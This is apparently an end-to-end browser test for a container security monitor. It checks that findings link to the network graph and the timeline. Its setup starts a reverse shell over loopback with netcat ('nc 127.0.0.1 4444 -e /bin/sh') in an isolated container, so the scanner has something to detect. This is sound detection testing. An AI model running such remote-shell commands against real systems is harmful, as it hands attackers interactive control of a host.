import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { artifactPath } from '../helpers/browser.js';
import { useWebApp } from '../helpers/web-app.js';
import { removeSuite, runContainer } from '../helpers/docker.js';

const SUITE = 'e2e-evidence-jumps';

/**
 * Two clicks from a finding to what is behind it, for socket and event evidence: a reverse shell over loopback in a
 * container without a network, and an exec session into a running container.
 */
describe('jumps from findings to the network graph and the timeline', { timeout: 240_000 }, () => {
  const app = useWebApp({ name: 'evidence-jumps', viewport: { width: 1600, height: 960 } });
  let page: Page;
  const shell = `sw-jump-shell-${process.pid}`;
  const target = `sw-jump-exec-${process.pid}`;
  let execId = '';

  beforeAll(async () => {
    await removeSuite(SUITE);
    await runContainer({
      suite: SUITE,
      name: shell,
      cmd: ['sh', '-c', 'sleep 3600 | nc -l -p 4444 & sleep 1; nc 127.0.0.1 4444 -e /bin/sh'],
    });
    const t = await runContainer({ suite: SUITE, name: target, cmd: ['sleep', '3600'] });
    const exec = await t.exec({ Cmd: ['sh', '-c', 'id; sleep 1'], Tty: true, AttachStdout: true });
    execId = exec.id;
    const stream = await exec.start({ hijack: true, stdin: false, Tty: true });
    await new Promise<void>((r) => {
      stream.on('end', () => r());
      stream.resume();
    });
    page = await app.start();
    await page.getByTestId('engine-rail').waitFor({ timeout: 60_000 });
    await page.getByTestId('engine-status').filter({ hasText: 'connected' }).waitFor({ timeout: 30_000 });
  });
  afterAll(async () => {
    await app.close();
    await removeSuite(SUITE);
  });

  /** Findings view narrowed to one container; returns after the finding with that title is selected. */
  async function openFinding(container: string, title: string) {
    await page.getByTestId('tab-findings').click();
    await page.getByTestId('findings').waitFor();
    const value = await page
      .getByTestId('filter-container')
      .locator('option', { hasText: container })
      .first()
      .getAttribute('value');
    await page.getByTestId('filter-container').selectOption(value!);
    const row = page.getByTestId('finding-row').filter({ hasText: title }).first();
    await row.waitFor({ timeout: 10_000 });
    await row.click();
    await page.getByTestId('finding-detail').filter({ hasText: title }).waitFor();
  }

  it('runs a scan from the UI', async () => {
    await page.getByTestId('tab-findings').click();
    const view = page.getByTestId('findings');
    await view.waitFor();
    await page.getByTestId('scan-button').click();
    await expect
      .poll(() => page.getByTestId('finding-row').filter({ hasText: shell }).count(), {
        timeout: 200_000,
        interval: 1000,
      })
      .toBeGreaterThan(0);
    await expect
      .poll(() => page.getByTestId('finding-row').filter({ hasText: target }).count(), { timeout: 20_000 })
      .toBeGreaterThan(0);
  });

  it('reverse shell: finding, then its socket, selects the connection in the network graph', async () => {
    await openFinding(shell, 'Reverse or bind shell');
    const link = page.getByTestId('evidence-link').and(page.locator('[data-kind="socket"]')).first();
    expect(await link.textContent()).toContain(':4444');
    await link.click();
    await page.getByTestId('network-graph').waitFor({ timeout: 60_000 });
    const focus = page.getByTestId('network-focus');
    await focus.waitFor({ timeout: 30_000 });
    const text = (await focus.textContent()) ?? '';
    expect(text).toContain('127.0.0.1:4444');
    expect(text).toContain('ESTABLISHED');
    // The connection row is the one marked, and the node holding it is selected (the shell, or its container).
    const row = page.locator('[data-testid="network-connection"][data-focused="true"]');
    await expect.poll(() => row.count()).toBe(1);
    expect(await row.textContent()).toContain('127.0.0.1:4444');
    expect(await row.getAttribute('class')).toContain('selected');
    const details = (await page.getByTestId('network-details').textContent()) ?? '';
    expect(details).toMatch(/sh \(\d+\)|nc \(\d+\)/);
    await page.waitForTimeout(800);
    await page.screenshot({ path: artifactPath('evidence-jumps-network.png') });
  });

  it('exec session: finding, then its exec evidence, selects that exec event on the timeline', async () => {
    await openFinding(target, 'Exec session into a container');
    const link = page.getByTestId('evidence-link').and(page.locator('[data-kind="exec"]')).first();
    await link.click();
    await page.getByTestId('timeline').waitFor({ timeout: 30_000 });
    const selected = page.locator('[data-testid="timeline-row"].selected');
    await expect.poll(() => selected.count(), { timeout: 30_000 }).toBe(1);
    expect(await selected.textContent()).toContain('exec_start');
    await expect
      .poll(async () => (await page.getByTestId('timeline-detail').textContent()) ?? '')
      .toContain(`execID=${execId}`);
    // Scrolled into view inside the list.
    const visible = await selected.evaluate((el) => {
      const box = el.getBoundingClientRect();
      const wrap = el.closest('.tl-list-wrap')!.getBoundingClientRect();
      return box.top >= wrap.top - 1 && box.bottom <= wrap.bottom + 1;
    });
    expect(visible).toBe(true);
    // The mark on the chart is selected too, and the axis was zoomed in around it.
    await expect.poll(() => page.locator('.tl-svg .tl-mark.selected').count()).toBe(1);
    await page.screenshot({ path: artifactPath('evidence-jumps-timeline.png') });
  });

  it('rail: risk badges from the scan, and riskiest first on demand', async () => {
    const rail = page.getByTestId('engine-rail');
    await rail.locator('input[type="search"]').fill('sw-jump-');
    const items = page.getByTestId('container-item');
    await expect.poll(() => items.count()).toBe(2);
    const shellItem = items.filter({ hasText: shell });
    const badge = shellItem.getByTestId('container-risk');
    await badge.waitFor({ timeout: 10_000 });
    const shellRisk = Number(await badge.getAttribute('data-risk'));
    expect(shellRisk).toBeGreaterThan(0);
    const targetBadge = items.filter({ hasText: target }).getByTestId('container-risk');
    const targetRisk = (await targetBadge.count()) ? Number(await targetBadge.getAttribute('data-risk')) : 0;
    expect(shellRisk).toBeGreaterThan(targetRisk);
    // By risk: the reverse shell's container comes first; j/k walk the drawn order.
    const sortBtn = page.getByTestId('rail-sort-risk');
    await sortBtn.click();
    expect(await sortBtn.getAttribute('aria-pressed')).toBe('true');
    await expect.poll(async () => (await items.first().textContent()) ?? '').toContain(shell);
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await items.nth(1).click();
    await page.keyboard.press('k');
    await expect
      .poll(
        async () => (await page.locator('[data-testid="container-item"][aria-selected="true"]').textContent()) ?? '',
      )
      .toContain(shell);
    await page.screenshot({ path: artifactPath('evidence-jumps-rail-risk.png') });
  });

  it('shortcut help lists the keys of the view on screen', async () => {
    await page.getByTestId('tab-network').click();
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('?');
    const help = page.getByTestId('shortcut-help');
    await help.waitFor();
    expect(await page.getByTestId('keys-global').textContent()).toContain('switch view');
    expect(await page.getByTestId('keys-view').textContent()).toContain('fit the graph');
    await page.screenshot({ path: artifactPath('evidence-jumps-help-network.png') });
    await page.keyboard.press('Escape');
    await expect.poll(() => help.count()).toBe(0);
    await page.getByTestId('tab-timeline').click();
    await page.keyboard.press('?');
    const keys = (await page.getByTestId('keys-view').textContent()) ?? '';
    expect(keys).toContain('live on / off');
    expect(keys).toContain('zoom to the selected item');
    await page.keyboard.press('Escape');
    await page.getByTestId('tab-case').click();
    await page.keyboard.press('?');
    await help.waitFor();
    expect(await page.getByTestId('keys-view').count()).toBe(0);
    await page.keyboard.press('Escape');
  });
});
